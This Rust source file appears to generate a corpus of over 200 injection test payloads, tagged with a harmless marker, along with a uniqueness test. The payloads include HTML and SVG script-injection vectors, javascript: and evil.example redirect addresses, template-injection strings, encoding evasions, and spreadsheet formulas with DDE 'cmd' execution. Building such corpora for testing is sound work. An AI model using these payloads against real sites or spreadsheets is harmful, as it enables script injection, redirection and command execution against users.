//! Texts that try to be more than text: markup, scripts, addresses, templates and formulas, made by a small grammar.

/// The word in everything that a payload would make: an attribute, the body of a script, a global variable.
pub const MARK: &str = "zq7x";

/// What stands before, to get out of where a text may be put.
const WAYS_OUT: [&str; 10] =
    ["", "\">", "'>", "</title>", "</textarea>", "</script>", "-->", "</style>", "</option></select>", "</text></svg>"];

/// Elements that run something; `§` is what they run.
const ELEMENTS: [&str; 22] = [
    "<script>§</script>",
    "<img src=zq7x onerror=§>",
    "<img/src='zq7x'/onerror='§'>",
    "<svg onload=§>",
    "<svg><script>§</script></svg>",
    "<svg><animate attributeName=x dur=1s onbegin=§ zq7x=1>",
    "<svg><set attributeName=onmouseover to=§ zq7x=1>",
    "<svg><a xlink:href=\"javascript:§\"><text y=20>zq7x</text></a></svg>",
    "<svg><foreignObject><body onload=§></foreignObject></svg>",
    "<math><mi xlink:href=\"javascript:§\">zq7x</mi></math>",
    "<details open ontoggle=§>",
    "<input autofocus onfocus=§>",
    "<video><source onerror=§></video>",
    "<audio src=zq7x onerror=§>",
    "<iframe srcdoc=\"<script>parent.§</script>\"></iframe>",
    "<iframe src=\"javascript:§\"></iframe>",
    "<object data=\"javascript:§\"></object>",
    "<form action=\"javascript:§\"><button zq7x>",
    "<button formaction=\"javascript:§\" zq7x>",
    "<a href=\"javascript:§\" zq7x>",
    "<div hx-get=/sign-out hx-trigger=load zq7x>",
    "<div hx-on::load=\"§\" zq7x>",
];

/// Attributes that get out of the value of another one.
const ATTRIBUTES: [&str; 8] = [
    "\" onmouseover=\"§\" zq7x=\"",
    "' onmouseover='§' zq7x='",
    "\" autofocus onfocus=§ zq7x=\"",
    " onclick=§ zq7x=",
    "\" style=\"animation-name:x\" onanimationstart=\"§",
    "\" hx-on::load=\"§\" zq7x=\"",
    "\"\tonpointerenter\n=\n\"§",
    "`onmouseover=`§",
];

/// Addresses that run something or lead elsewhere.
const ADDRESSES: [&str; 14] = [
    "javascript:§",
    "JaVaScRiPt:§",
    " javascript:§",
    "java\tscript:§",
    "javascript&colon;§",
    "javascript://%0a§",
    "vbscript:§",
    "data:text/html,<script>§</script>",
    "data:text/html;base64,PHNjcmlwdD56cTd4KCk8L3NjcmlwdD4=",
    "//evil.example/zq7x",
    "\\\\evil.example\\zq7x",
    "https:/evil.example/zq7x",
    "/\\evil.example/zq7x",
    "http://evil.example/zq7x",
];

/// What templates of other makers would fill in.
const TEMPLATES: [&str; 12] = [
    "{{zq7x}}",
    "{{constructor.constructor('§')()}}",
    "{{{zq7x}}}",
    "${§}",
    "#{zq7x}",
    "<%= zq7x %>",
    "{% raw %}zq7x{% endraw %}",
    "[[${zq7x}]]",
    "@{zq7x}",
    "{$zq7x}",
    "%{zq7x}",
    "*{zq7x}",
];

/// Letters that look like others, or that programs read in another way.
const LETTERS: [&str; 14] = [
    "＜script＞§＜/script＞",
    "<ſcript>§</ſcript>",
    "&lt;script&gt;§&lt;/script&gt;",
    "&#60;img src=zq7x onerror=§&#62;",
    "&amp;lt;script&amp;gt;zq7x",
    "%3Cscript%3E§%3C/script%3E",
    "\\u003cscript\\u003e§\\u003c/script\\u003e",
    "\\x3cimg src=zq7x onerror=§\\x3e",
    "<scr\u{ad}ipt>§</scr\u{ad}ipt>",
    "\u{202e}<img src=zq7x onerror=§>",
    "\u{2028}<img src=zq7x onerror=§>\u{2029}",
    "\u{feff}<img src=zq7x onerror=§>",
    "<img src=zq7x onerror=§\u{200b}>",
    "<<script>§//<</script>",
];

/// What gets out of JSON and of a script.
const SCRIPTS: [&str; 12] = [
    "\"};§;//",
    "\\\"};§;//",
    "';§;//",
    "\\';§;//",
    "`;§;//",
    "</script><script>§</script>",
    "<!--<script>§",
    "]]><script>§</script>",
    "*/§/*",
    "\n§\n",
    "</SCRIPT ><SCRIPT\t>§</SCRIPT>",
    "\");§;(\"",
];

/// What a spreadsheet would compute.
const FORMULAS: [&str; 12] = [
    "=cmd|' /C zq7x'!A0",
    "=HYPERLINK(\"http://evil.example/zq7x\",\"zq7x\")",
    "@SUM(1+1)*zq7x",
    "+zq7x+1",
    "-zq7x-1",
    "\t=zq7x()",
    "\r=zq7x()",
    "\n=zq7x()",
    "=1+1;zq7x",
    "＝zq7x()",
    "=\"zq7x\"",
    "-2+3+cmd|' /C zq7x'!A0",
];

/// All of them: each element after each way out in turn, and everything else by itself.
pub fn payloads() -> Vec<String> {
    let mut made = Vec::new();
    for (place, element) in ELEMENTS.iter().enumerate() {
        // The first runs by itself; the other ways out take turns, so that each meets elements of all kinds.
        for turn in [0, 1 + place % 3, 4 + place % 3, 7 + place % 3, 1 + (place + 1) % 3] {
            made.push(format!("{}{element}", WAYS_OUT[turn]));
        }
    }
    for alone in [&ATTRIBUTES[..], &ADDRESSES, &TEMPLATES, &LETTERS, &SCRIPTS, &FORMULAS] {
        made.extend(alone.iter().map(|text| (*text).to_owned()));
    }
    for text in ADDRESSES.iter().chain(&TEMPLATES).chain(&SCRIPTS) {
        made.push(format!("\"><b zq7x>{text}</b>"));
    }
    let numbered = made.into_iter().enumerate();
    numbered.map(|(n, text)| text.replace('§', &format!("window.zq7x={n}"))).collect()
}

#[test]
fn there_are_two_hundred_and_no_two_alike() {
    let payloads = payloads();
    let distinct: std::collections::BTreeSet<_> = payloads.iter().collect();
    assert!(distinct.len() >= 200 && distinct.len() == payloads.len(), "{} of {}", distinct.len(), payloads.len());
    assert!(payloads.iter().all(|payload| payload.contains(MARK) || payload.contains("base64")));
}
